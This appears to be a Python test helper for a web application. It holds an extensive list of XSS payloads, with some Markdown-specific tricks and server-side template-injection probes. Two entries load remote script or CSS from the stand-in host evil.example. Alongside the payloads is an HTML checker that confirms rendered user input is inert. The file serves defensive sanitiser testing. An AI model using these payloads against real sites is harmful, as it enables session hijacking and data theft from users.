"""XSS payloads and an HTML checker shared by every test that shows user input.

``XSS_VECTORS`` mixes raw-HTML payloads with Markdown-specific tricks; feed them
into any field a member or staff user can write.  ``assert_inert_html`` checks
the HTML fragment that holds the user data (not a whole page, whose own
``<link>``, ``<meta>``, ``<form>`` and ``<script src>`` tags it would reject).
"""

import re
from html.parser import HTMLParser

XSS_VECTORS: list[str] = [
    # Script tags
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "<<script>alert(1);//<</script>",
    # Event handlers on many tags
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)"/>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a onclick=alert(1)>click</a>",
    '<p onclick="alert(1)">text</p>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    # Dangerous URL schemes in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # Embedding and navigation
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert`1`)",
    "[x](&#106;avascript:alert(1))",
    "[x](\x1ajavascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x]("><script>alert`1`</script>)',
    '[x](https://example.com"onmouseover="alert(1))',
    "[x](https://example.com 'onclick=\"alert(1)\"')",
    '![" onerror=alert(1) ](x)',
    '![A](B "<C D="E" onerror=alert(1) >")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x"onerror="alert(1))',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[evil]\n\n[evil]: JaVaScRiPt:alert(1) "title"',
    "![x][img]\n\n[img]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com)<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <svg onload=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |",
    "~~<script>alert(1)</script>~~",
    # Template injection
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
]


# Payloads for a whole page in a browser: each one, if it ever ran, would both open a dialog
# and mark the page (`<body id=xss-fired>`), and the markup itself leaves elements a test
# can look for even when the CSP stops the script (`<xss-fired>`, `img[src=x]`, `on*`
# attributes, inline `<script>`). Short ones first: they must fit 20-character columns.
XSS_MARKER = "xss-fired"
XSS_SCRIPT = f"alert(1),document.body.id='{XSS_MARKER}'"
TEMPLATE_PROBE = "xss{{7*7}}xss"  # shows "xss49xss" if a template engine evaluated it
CONTEXT_PAYLOADS: list[str] = [
    f'"><{XSS_MARKER}>',  # out of a double-quoted attribute
    TEMPLATE_PROBE,
    f"<script>{XSS_SCRIPT}</script>",
    f"'\"><img src=x onerror={XSS_SCRIPT}>",  # out of a single- or double-quoted attribute
    f"<svg onload={XSS_SCRIPT}>",
    f"</textarea></title><svg/onload={XSS_SCRIPT}>",  # out of RCDATA elements
]
# Markdown-only tricks for fields rendered from Markdown.
MARKDOWN_PAYLOADS: list[str] = [
    f"[link](javascript:{XSS_SCRIPT})",
    f'![image](x"onerror="{XSS_SCRIPT})',
    f"[ref][evil]\n\n[evil]: javascript:{XSS_SCRIPT}",
]

_FORBIDDEN_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "style", "link", "meta", "base", "form",
})  # fmt: skip
# Attributes whose value is a URL, or a list of URLs for srcset.
_URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "background", "poster",
    "data", "cite", "lowsrc", "dynsrc", "codebase", "longdesc", "ping",
})  # fmt: skip
_SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
# Browsers ignore ASCII whitespace and control characters inside a scheme.
_IGNORED_URL_CHARS = re.compile(r"[\x00-\x20\x7f]")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_UNCLOSED_TAG = re.compile(r"<[a-z/!?][^\0]*", re.IGNORECASE)


class _InertChecker(HTMLParser):
    """Collect every way an HTML fragment could run script or leave the page."""

    def __init__(self) -> None:
        # Text arrives raw (not entity-decoded), so escaped "&lt;script" is told
        # apart from a raw "<script" that never closed.
        super().__init__(convert_charrefs=False)
        self.problems: list[str] = []
        self._text: list[str] = []

    def handle_data(self, data: str) -> None:
        self._text.append(data)

    def _break_text(self, *_: object) -> None:
        self._text.append("\0")

    handle_endtag = handle_entityref = handle_charref = _break_text
    handle_comment = handle_decl = handle_pi = unknown_decl = _break_text

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._break_text()
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> tag")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def close(self) -> None:
        super().close()
        # A browser would complete such a tag with the next ">" on the page.
        if (unclosed := _UNCLOSED_TAG.search("".join(self._text))) is not None:
            self.problems.append(f"unclosed tag {unclosed.group()!r}")

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        # html.parser has already decoded character references in ``value``.
        if name.startswith("on"):
            self.problems.append(f"event handler {name} on <{tag}>")
        elif name in ("style", "srcdoc"):
            self.problems.append(f"{name} attribute on <{tag}>")
        elif name in _URL_ATTRIBUTES:
            self._check_url(tag, name, value)
        elif name == "srcset":
            for candidate in value.split(","):
                self._check_url(tag, name, candidate.strip().split(" ")[0])

    def _check_url(self, tag: str, name: str, value: str) -> None:
        normalised = _IGNORED_URL_CHARS.sub("", value).lower()
        scheme = _SCHEME.match(normalised)
        if scheme is not None and scheme.group(1) not in _SAFE_SCHEMES:
            self.problems.append(f"{name}={value!r} on <{tag}>")


def assert_inert_html(html_fragment: str) -> None:
    """Fail unless ``html_fragment`` can neither run script nor restyle or redirect the page.

    Rejects script-capable or page-changing tags (script, iframe, object, embed,
    svg, math, style, link, meta, base, form…), ``on*`` event handlers,
    ``style`` and ``srcdoc`` attributes, and URL attributes whose scheme (after
    decoding entities and dropping whitespace and control characters) is not
    http, https or mailto.  Relative URLs and escaped text such as
    ``&lt;script&gt;`` pass.
    """
    checker = _InertChecker()
    checker.feed(html_fragment)
    checker.close()
    problems = "; ".join(checker.problems)
    assert not problems, f"HTML is not inert ({problems}): {html_fragment!r}"
